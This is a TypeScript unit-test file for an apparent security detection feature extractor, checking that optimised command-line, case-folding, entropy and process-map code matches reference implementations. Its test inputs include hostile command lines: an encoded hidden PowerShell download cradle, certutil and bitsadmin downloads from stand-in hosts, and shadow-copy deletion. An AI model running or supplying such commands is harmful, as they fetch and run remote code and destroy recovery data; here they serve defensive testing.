/**
 * The extractor's fast paths give what the plain definitions give: the one-pass command-line
 * scan against the separate shape functions, the copy-free case folding against toLowerCase and
 * toUpperCase, the bitmap entropy against a scan of all 256 counts, and the process map against
 * a Map keyed by "pid:startTimeMs". Same inputs, same numbers, to the last bit.
 */
import { describe, expect, it } from 'vitest';
import { processKey } from '../../../common/events.js';
import { CommandLineShape } from '../../../models/features/command-line-scan.js';
import * as cl from '../../../models/features/command-line.js';
import { equalsIgnoringCase } from '../../../models/features/fold-case.js';
import { imageInfo, ImageInfoCache } from '../../../models/features/image-info.js';
import { basename, DOCUMENT_APPS, integrityOrdinal, isSystemUser, pathClass, RECON_TOOLS, SCRIPT_HOSTS } from '../../../models/features/image-path.js';
import { isPublicAddress, registeredDomainStart } from '../../../models/features/net-shape.js';
import { ProcessMap } from '../../../models/features/process-map.js';
import { rarityFromCount, rarityOf } from '../../../models/features/rarity.js';
import { rng } from './helpers.js';

const B64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';

const LINES = [
  '',
  '   ',
  'notepad.exe',
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${B64}`,
  'pwsh -EncodedCommand AAAA',
  'powershell -EC AAAA',
  'powershell /enc AAAA',
  'powershell \u2013e AAAA',
  'powershell -ep bypass -File x.ps1',
  'cmd /c echo -enchanted -encodedcommandx',
  "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('AA')))",
  "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
  'certutil -URLCACHE -f http://10.0.0.5/a.exe https://evil.example/b C:\\Users\\Public\\a.exe',
  'bitsadmin /Transfer j /download /priority high http://1.2.3.4:8080/x c:\\x',
  'vssadmin delete shadows /all /quiet & mshta vbscript:Close(Execute("x"))',
  'ping 192.168.1.10 && nc 8.8.8.8 53 version 10.0.17763.1217 300.1.1.1 1.2.3 1.2.3.4.',
  'v1.2.3.4.5 x.10.0.0.1 01.2.3.4 1.2.3.4a',
  'rundll32 x.dll,#1 deadbeef00112233 zz c^m^d `e`x`e "quoted arg" \'single\'\tTAB\r\nNL',
  'C:\\Users\\Hélène\\AppData\\Local\\Temp\\setup.exe /S /D=C:\\Programmes\\Ünïcode',
  'powershell -nonİ x', // U+0130 lower-cases to "i\u0307": the slow path keeps toLowerCase's meaning
  'net.webclient \u212Aelvin', // the Kelvin sign lower-cases to ASCII 'k'
  `powershell -enc ${'A'.repeat(cl.MAX_SCAN + 100)} frombase64string`,
  `${'x '.repeat(40)}end`, // more tokens than the bounds buffer
];

/** The separate functions, as the process row computed them before the one-pass scan. */
function reference(s: string, maxTokens: number) {
  const lower = s.toLowerCase();
  const starts = new Int32Array(maxTokens);
  const ends = new Int32Array(maxTokens);
  const n = cl.tokenBounds(s, starts, ends);
  return {
    length: s.length,
    entropy: cl.shannonEntropy(s),
    tokens: cl.countTokens(s),
    base64Run: cl.longestBase64Run(s),
    hexRun: cl.longestHexRun(s),
    urls: cl.countUrls(s),
    ipLiterals: cl.countIpLiterals(s),
    encoded: cl.hasEncodedFlag(lower),
    evasionMarkers: cl.countEvasionMarkers(lower),
    obfuscation: cl.obfuscationCharFraction(s),
    bounds: Array.from({ length: n }, (_, i) => [starts[i], ends[i]]),
  };
}

/** Entropy as defined: every one of the 256 counts, in order. */
function entropy256(s: string): number {
  const counts = new Uint32Array(256);
  const stop = Math.min(s.length, cl.MAX_SCAN);
  for (let i = 0; i < stop; i++) counts[s.charCodeAt(i) & 0xff]!++;
  let h = 0;
  for (let c = 0; c < 256; c++) {
    const k = counts[c]!;
    if (k === 0) continue;
    const p = k / stop;
    h -= p * Math.log2(p);
  }
  return h;
}

describe('one-pass command-line scan', () => {
  it('measures what the separate functions measure', () => {
    const shape = new CommandLineShape(32);
    for (const line of LINES) {
      const r = reference(line, 32);
      shape.scan(line);
      const got = {
        length: shape.length, entropy: shape.entropy, tokens: shape.tokens, base64Run: shape.base64Run, hexRun: shape.hexRun,
        urls: shape.urls, ipLiterals: shape.ipLiterals, encoded: shape.encoded, evasionMarkers: shape.evasionMarkers,
        obfuscation: shape.obfuscation,
        bounds: Array.from({ length: shape.tokenBounds }, (_, i) => [shape.starts[i], shape.ends[i]]),
      };
      expect(got, JSON.stringify(line.slice(0, 60))).toEqual(r);
    }
  });

  it('agrees on random command lines too', () => {
    const r = rng(3);
    const alphabet = 'aAbBeEcCdDnNoOpPxXiIsS0123456789 -/.:\\"\'^`=+\u2013é\u0130\u212A\t';
    const shape = new CommandLineShape(8);
    for (let n = 0; n < 2000; n++) {
      let line = '';
      const len = Math.floor(r() * 80);
      for (let i = 0; i < len; i++) line += alphabet[Math.floor(r() * alphabet.length)];
      const ref = reference(line, 8);
      shape.scan(line);
      expect([shape.entropy, shape.tokens, shape.base64Run, shape.hexRun, shape.ipLiterals, shape.encoded, shape.evasionMarkers, shape.obfuscation, shape.tokenBounds], line)
        .toEqual([ref.entropy, ref.tokens, ref.base64Run, ref.hexRun, ref.ipLiterals, ref.encoded, ref.evasionMarkers, ref.obfuscation, ref.bounds.length]);
    }
  });

  it('entropy with a bitmap of the characters present and tabled logarithms is the 256-count entropy', () => {
    for (const line of [...LINES, 'wdcp.microsoft.com', 'a', 'abab', 'x'.repeat(9000), `${'ab'.repeat(4500)}c`]) {
      expect(Math.abs(cl.shannonEntropy(line) - entropy256(line)), line.slice(0, 40)).toBeLessThan(1e-12);
    }
    expect(cl.shannonEntropy('aaaa')).toBe(0);
    expect(cl.shannonEntropy('abab')).toBe(1);
  });
});

describe('copy-free case folding', () => {
  const USERS = ['NT AUTHORITY\\SYSTEM', 'nt authority\\system', 'NT AUTHORITY\\LOCAL SERVICE', 'NT AUTHORITY\\Network Service', 'root', 'ROOT', 'SYSTEM',
    'system', 'TOWN\\alice', 'alice', '', 'xsystem', '\\system', 'TOWN\\\u017Fystem', 'TOWN\\Hélène', 'uid:0'];
  it('isSystemUser and user comparisons mean what the upper/lower-case copies meant', () => {
    const upper = (user: string, uid: number) => {
      if (uid === 0 && (user === '' || user === 'root' || user === 'uid:0')) return true;
      const u = user.toUpperCase();
      return u === 'ROOT' || u.endsWith('\\SYSTEM') || u.endsWith('\\LOCAL SERVICE') || u.endsWith('\\NETWORK SERVICE') || u === 'SYSTEM';
    };
    for (const u of USERS) for (const uid of [0, 1000]) expect(isSystemUser(u, uid), u).toBe(upper(u, uid));
    for (const a of USERS) for (const b of USERS) expect(equalsIgnoringCase(a, b), `${a} ${b}`).toBe(a.toLowerCase() === b.toLowerCase());
    expect(equalsIgnoringCase('\u0130', 'i\u0307')).toBe(true);
  });

  it('integrity levels whatever their case', () => {
    for (const l of ['Medium', 'medium', 'MEDIUM', 'High', 'System', 'Low', 'AppContainer', 'untrusted', 'Protected', 'MediumPlus', '']) {
      expect(integrityOrdinal(l, 1000, false), l).toBe(integrityOrdinal(l.toLowerCase(), 1000, false));
    }
  });

  it('addresses and registered domains without copies', () => {
    const slowPublic = (address: string) => {
      const a0 = address.toLowerCase();
      const a = a0.startsWith('::ffff:') ? a0.slice(7) : a0;
      if (a === '' || a === '0.0.0.0' || a === '::' || a === '::1' || a === '*') return false;
      if (a.includes(':')) return !['fe8', 'fe9', 'fea', 'feb', 'fc', 'fd', 'ff'].some((p) => a.startsWith(p));
      const dot1 = a.indexOf('.');
      const o1 = Number(a.slice(0, dot1));
      const o2 = Number(a.slice(dot1 + 1, a.indexOf('.', dot1 + 1)));
      return !(o1 === 10 || o1 === 127 || o1 === 0 || o1 >= 224 || (o1 === 192 && o2 === 168) || (o1 === 172 && o2 >= 16 && o2 <= 31) ||
        (o1 === 169 && o2 === 254) || (o1 === 100 && o2 >= 64 && o2 <= 127));
    };
    for (const a of ['10.1.2.3', '8.8.8.8', '172.16.0.1', '172.32.0.1', '100.64.1.1', '100.128.1.1', '0.0.0.0', '1.2.3', '1.2', '1..2.3', '.1.2.3',
      '1.2.3.', '010.1.1.1', '0010.1.1.1', '1234567890.1.1.1', '8.8.8.8:53', 'host', '', '*', '::FFFF:10.0.0.1', 'FE80::1', '2A00::1', ' 10.0.0.1']) {
      expect(isPublicAddress(a), a).toBe(slowPublic(a));
    }
    const slowDomain = (name: string) => {
      let end = name.length;
      if (name.charCodeAt(end - 1) === 46) end--;
      const last = name.lastIndexOf('.', end - 1);
      if (last <= 0) return 0;
      const second = name.lastIndexOf('.', last - 1);
      if (second < 0) return 0;
      const label = name.slice(second + 1, last).toLowerCase();
      const short = ['co', 'com', 'org', 'net', 'gov', 'ac', 'gouv'].includes(label);
      if (!short || end - last > 3) return second + 1;
      return name.lastIndexOf('.', second - 1) + 1;
    };
    for (const n of ['a.b.example.com', 'www.bbc.CO.uk', 'x.Gouv.fr', 'a.com.au', 'a.comx.au', 'a.c.uk', 'localhost', 'example.com.', 'a.NET.br', 'x.gov.uk.']) {
      expect(registeredDomainStart(n), n).toBe(slowDomain(n));
    }
  });

  it('image facts are the path-string facts, cached with a bound', () => {
    for (const p of ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe', '/usr/bin/curl', 'C:\\Users\\bob\\Downloads\\WINWORD.EXE', '', 'cmd.exe']) {
      const info = imageInfo(p);
      const lower = p.toLowerCase();
      expect(info.name).toBe(basename(p));
      expect(info.pathClass).toBe(pathClass(lower));
      expect([info.scriptHost, info.reconTool, info.documentApp]).toEqual([SCRIPT_HOSTS.has(info.name), RECON_TOOLS.has(info.name), DOCUMENT_APPS.has(info.name)]);
    }
    const cache = new ImageInfoCache(4);
    for (let i = 0; i < 10; i++) expect(cache.get(`C:\\x\\${i}.exe`).name).toBe(`${i}.exe`);
    expect(cache.get('C:\\x\\9.exe')).toBe(cache.get('C:\\x\\9.exe'));
  });

  it('rarity from the table is rarityOf', () => {
    for (let n = 0; n < 3000; n++) expect(rarityFromCount(n)).toBe(rarityOf(n));
  });
});

describe('process map', () => {
  it('behaves as a Map keyed by "pid:startTimeMs" in insertion order, pid reuse included', () => {
    const m = new ProcessMap<number>();
    const ref = new Map<string, number>();
    const r = rng(9);
    for (let i = 0; i < 5000; i++) {
      const pid = Math.floor(r() * 20);
      const start = Math.floor(r() * 4) * 1000;
      const key = processKey({ pid, startTimeMs: start });
      const op = r();
      if (op < 0.5) {
        m.set(pid, start, i);
        ref.delete(key);
        ref.set(key, i);
      } else if (op < 0.8) {
        expect(m.delete(pid, start)).toBe(ref.delete(key));
      } else if (op < 0.9) {
        expect(m.shift()).toBe(ref.size > 0 ? ref.get(ref.keys().next().value!) : undefined);
        if (ref.size > 0) ref.delete(ref.keys().next().value!);
      }
      expect(m.get(pid, start)).toBe(ref.get(key));
      expect(m.size).toBe(ref.size);
      expect(m.oldest()).toBe(ref.values().next().value);
    }
    expect([...m.values()]).toEqual([...ref.values()]);
    m.clear();
    expect([m.size, m.oldest(), [...m.values()]]).toEqual([0, undefined, []]);
  });
});
